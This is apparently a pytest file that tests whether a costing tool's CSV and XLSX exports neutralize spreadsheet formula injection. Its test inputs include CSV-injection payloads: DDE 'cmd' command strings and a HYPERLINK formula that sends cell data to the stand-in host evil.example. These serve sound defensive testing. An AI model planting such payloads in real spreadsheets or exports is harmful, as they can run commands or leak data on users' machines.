"""Exports are safe to open in a spreadsheet: a text cell (or column label) that begins with
=, +, -, @, a tab or a carriage return is written with a leading single quote, so Excel,
LibreOffice and Google Sheets show it as text instead of running it; numbers stay numbers; and
no XLSX cell is a formula (or a hyperlink made from a text that looks like one)."""

from __future__ import annotations

import csv
import io
import math
from dataclasses import replace
from datetime import date

import openpyxl
import pandas as pd
import pytest

from analysis.costing.engine import cost_with_rates
from analysis.roster.reader import validate_roster
from exports.costing import EXPORT_TABLES, cost_tables_to_csv, to_xlsx
from exports.safety import FORMULA_PREFIXES
from exports.tables import to_csv_bytes, to_xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Account Clerk II", "O'Brien", "http://example.org", "1-2-3 Plan", " =lead space"]


def _unsafe(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def _is_number(text: str) -> bool:
    try:
        return not math.isnan(float(text))
    except ValueError:
        return False


def _table() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "class_title": HOSTILE,
            "note": (HARMLESS * 2)[:n],
            "amount": [-5.0, -0.5, 0.0, 1.5, -1e6, 2.0],  # negative numbers are numbers
            "count": list(range(-3, n - 3)),
            "category": pd.Categorical(HOSTILE),
            "string_dtype": pd.array(HOSTILE, dtype="string"),
            "when": [date(2016, 7, 1)] * n,
            "=cmd|' /C calc'!A0": ["x"] * n,  # a hostile column label
        }
    )


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_csv_safe(data: bytes, expect_neutralized: list[str]) -> None:
    cells = [c for row in _csv_cells(data) for c in row]
    for c in cells:
        assert not _unsafe(c) or _is_number(c), repr(c)
    for h in expect_neutralized:
        assert "'" + h in cells, h


def _assert_xlsx_safe(data: bytes, expect_neutralized: list[str]) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (ws.title, cell.coordinate)
                v = cell.value
                if isinstance(v, str):
                    v = v.replace("_x000D_", "\r")  # how XLSX stores a carriage return
                    assert not _unsafe(v), (ws.title, cell.coordinate, v)
                values.append(v)
    for h in expect_neutralized:
        assert "'" + h in values, h
    return values


def test_exports_csv_neutralizes_every_formula_prefix():
    data = to_csv_bytes(_table())
    _assert_csv_safe(data, HOSTILE + ["=cmd|' /C calc'!A0"])
    rows = _csv_cells(data)
    # numbers are not touched: a negative amount is still a number
    assert [r[2] for r in rows[1:]] == ["-5.0", "-0.5", "0.0", "1.5", "-1000000.0", "2.0"]
    assert [r[3] for r in rows[1:]] == ["-3", "-2", "-1", "0", "1", "2"]
    # harmless text is left exactly as it was
    assert [r[1] for r in rows[1:]] == (HARMLESS * 2)[:6]


def test_exports_xlsx_neutralizes_and_writes_no_formula():
    data = to_xlsx_bytes({"Gap: =cmd": _table(), "second": _table().iloc[:2]})
    values = _assert_xlsx_safe(data, HOSTILE + ["=cmd|' /C calc'!A0"])
    assert -5.0 in values and -1e6 in values  # still numeric cells
    assert "http://example.org" in values  # a URL stays plain text


def test_the_source_table_is_not_modified():
    df = _table()
    before = df.copy()
    to_csv_bytes(df)
    to_xlsx_bytes({"t": df})
    pd.testing.assert_frame_equal(df, before)


@pytest.fixture(scope="module")
def hostile_cost():
    """A costing whose class titles, roster name and scenario text are all formula text."""
    codes = [f"{i:04d}" for i in range(1, len(HOSTILE) + 1)]
    rates = pd.DataFrame(
        [
            {
                "agency": "Sonoma",
                "class_code": code,
                "class_title": title,
                "step": step,
                "effective_date": date(2004, 7, 1),
                "hourly": 20.0 + k,
            }
            for code, title in zip(codes, HOSTILE, strict=True)
            for k, step in enumerate("ABC")
        ]
    )
    table = pd.DataFrame(
        {
            "agency": "Sonoma",
            "class_code": codes,
            "step": "A",
            "fte": 1.0,
            "count": 2,
        }
    )
    valid = rates[["agency", "class_code", "step"]]
    roster = validate_roster(table, valid, source='=HYPERLINK("http://evil.example","r")')
    scenario = {
        "agency": "Sonoma",
        "start": "2004-07-01",
        "years": 2,
        "name": "=1+1",
        "description": "@SUM(1)",
        "changes": [
            {"type": "across_the_board", "effective": "2004-07-01", "pct": -2.0, "label": "-1+1"}
        ],
    }
    return cost_with_rates(roster, scenario, rates)


def test_costing_csv_exports_are_neutralized(hostile_cost):
    files = cost_tables_to_csv(hostile_cost)
    assert set(files) == {f"{t}.csv" for t in EXPORT_TABLES} | {"assumptions.csv"}
    for name, data in files.items():
        _assert_csv_safe(data, HOSTILE if name == "by_class.csv" else [])
    assumptions = _csv_cells(files["assumptions.csv"])
    assert ["roster", '\'=HYPERLINK("http://evil.example","r")'] in assumptions
    # money stays numeric, negative increments included (the proposal is a 2% cut)
    header, *rows = _csv_cells(files["by_year.csv"])
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        assert float(cells["incremental_cost"]) < 0
        assert all(_is_number(cells[c]) for c in ("baseline_cost", "proposal_cost"))


def test_costing_xlsx_is_neutralized_and_has_no_formula(hostile_cost):
    data = to_xlsx(hostile_cost)
    values = _assert_xlsx_safe(data, [*HOSTILE, '=HYPERLINK("http://evil.example","r")'])
    assert any(isinstance(v, float) for v in values)


@pytest.mark.parametrize("inner", ["Clerk\r=1+1", "Clerk\n=1+1", "Clerk\r\n=1+1"])
def test_a_line_break_inside_a_cell_does_not_start_a_row(inner, hostile_cost):
    """Unquoted, a lone CR would end the row in a spreadsheet and '=1+1' would begin the next
    one as a formula; the CSV writers quote every cell holding a line break."""
    data = to_csv_bytes(pd.DataFrame({"title": [inner, "next"], "n": [1, 2]}))
    rows = _csv_cells(data)
    assert rows == [["title", "n"], [inner, "1"], ["next", "2"]]
    assert f'"{inner}"'.encode() in data
    by_class = hostile_cost.by_class.copy()
    by_class.loc[0, "class_title"] = inner
    rows = _csv_cells(cost_tables_to_csv(replace(hostile_cost, by_class=by_class))["by_class.csv"])
    assert len(rows) == len(by_class) + 1
    assert rows[1][rows[0].index("class_title")] == inner
    assert not any(_unsafe(c) and not _is_number(c) for r in rows for c in r)
